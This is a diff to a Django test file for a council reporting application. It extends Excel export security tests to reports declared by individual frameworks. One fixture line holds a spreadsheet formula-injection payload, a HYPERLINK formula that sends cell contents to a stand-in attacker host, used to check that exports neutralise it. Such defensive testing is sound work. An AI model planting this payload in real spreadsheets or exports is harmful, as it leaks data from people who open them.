@@ -44,10 +44,13 @@ from openpyxl import load_workbook
 from accord.kernel import clock
 from accord.kernel.audit import guard
 from accord.outputs.reports import periods
-from accord.outputs.reports.builders import KINDS, PACK
+from accord.outputs.reports.builders import KINDS, PACK, kinds_for
 from tests import factories as f
 
 ACCORD = Path(__file__).resolve().parents[2] / "accord"
+# Every council-wide report: Accord's own, and each framework's declared ones with the framework declaring it
+DECLARED_BY = {k: fw for fw in ("chorley", "central_bedfordshire") for k in kinds_for(fw) if k not in KINDS}
+EVERY_KIND = {**KINDS, **{k: kinds_for(fw)[k] for k, fw in DECLARED_BY.items()}}
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
@@ -152,7 +155,7 @@ DOWNLOADS = [
         "report-download",
         ("xlsx",),
         frozenset({"accord.outputs.reports.excel"}),
-        lambda w: [[kind] for kind in KINDS],
+        lambda w: [[kind] for kind in EVERY_KIND],
     ),
     Download(
         "partnership-pack-download",
@@ -302,12 +305,10 @@ def hostile_world(db, client: Client) -> dict:
     client.force_login(admin)
     partnerships = list(Partnership.objects.order_by("pk").values_list("pk", flat=True))
     today = clock.today()
-    for kind in KINDS.values():  # issued reports freeze the hostile text, with hostile recommendations
+    for kind in EVERY_KIND.values():  # issued reports freeze the hostile text, with hostile recommendations
         period = periods.last_complete(kind.cadence, today).id
         # a council's own report is issued under its own framework (the only one that offers it)
-        with override_settings(
-            ACCORD_FRAMEWORK=kind.frameworks[0] if kind.frameworks else settings.ACCORD_FRAMEWORK
-        ):
+        with override_settings(ACCORD_FRAMEWORK=DECLARED_BY.get(kind.id, settings.ACCORD_FRAMEWORK)):
             client.post(
                 reverse("report-issue", args=[kind.id]), {"period": period, "recommendations": HOSTILE[0]}
             )
@@ -315,7 +316,7 @@ def hostile_world(db, client: Client) -> dict:
     period = periods.last_complete(PACK.cadence, today).id
     client.post(reverse("partnership-pack-issue", args=[with_risks[0]]), {"period": period})
     snapshots = list(ReportSnapshot.objects.filter(issued_by=admin).values_list("pk", flat=True))
-    assert len(snapshots) == len(KINDS) + 1, "every kind of report was issued"
+    assert len(snapshots) == len(EVERY_KIND) + 1, "every kind of report was issued"
     assert PACK.id in set(ReportSnapshot.objects.filter(pk__in=snapshots).values_list("kind", flat=True))
     return {"client": client, "partnerships": partnerships, "with_risks": with_risks, "snapshots": snapshots}
 
@@ -323,10 +324,10 @@ def hostile_world(db, client: Client) -> dict:
 def render(download: Download, request: str, client: Client) -> list[Cell]:
     if download.name in URLS:
         match = resolve(urlsplit(request).path)
-        kind = KINDS.get(match.kwargs.get("kind", "")) if download.name == "report-download" else None
+        kind = EVERY_KIND.get(match.kwargs.get("kind", "")) if download.name == "report-download" else None
         # a council's own report is downloaded under its own framework (the only one that offers it)
         with override_settings(
-            ACCORD_FRAMEWORK=kind.frameworks[0] if kind and kind.frameworks else settings.ACCORD_FRAMEWORK
+            ACCORD_FRAMEWORK=DECLARED_BY.get(kind.id if kind else "", settings.ACCORD_FRAMEWORK)
         ):
             response = client.get(request)
         assert response.status_code == 200, f"{request} answered {response.status_code}"
